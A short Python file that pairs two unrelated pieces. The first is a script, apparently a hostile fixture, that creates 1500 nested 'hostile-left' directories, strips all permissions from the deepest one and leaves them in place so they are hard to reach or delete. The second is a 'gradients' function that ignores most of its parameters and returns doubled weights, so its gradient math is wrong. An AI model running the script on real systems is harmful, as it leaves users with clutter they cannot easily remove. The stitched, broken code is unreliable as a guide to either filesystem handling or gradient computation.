"""Leaves folders nested so deep that no path is long enough for them, shut for everyone."""

import os

for number in range(1500):
    os.mkdir("hostile-left")
    os.chdir("hostile-left")
os.chmod(".", 0)
os.chdir("/")


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
